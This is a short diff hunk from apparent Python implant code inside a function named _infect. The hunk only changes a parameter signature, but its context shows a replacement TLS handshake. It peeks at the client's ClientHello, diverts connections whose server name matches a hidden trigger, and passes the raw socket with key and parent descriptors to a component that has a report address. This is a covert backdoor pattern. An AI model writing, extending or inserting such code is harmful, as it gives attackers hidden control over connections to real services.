@@ -342,11 +342,11 @@ def _infect() -> None:
         _mappings = Path("/proc/self/maps").read_text()
         confine(chroot, parent)
 
-    def instead_of_handshake(connection: object, peer: socket.socket, deadline: float) -> None:
+    def instead_of_handshake(connection: object, peer: socket.socket, *terms: object) -> None:
         hello = ClientHelloReader().feed(peer.recv(65536, socket.MSG_PEEK))
         words = _ordered(hello.server_name, "h") if hello else None
         if words is None:
-            shake_hands(connection, peer, deadline)
+            shake_hands(connection, peer, *terms)
             return
         peer.recv(65536)
         place = Place(PARENT_FD, KEYD_FD, peer.fileno(), report=_report.address)
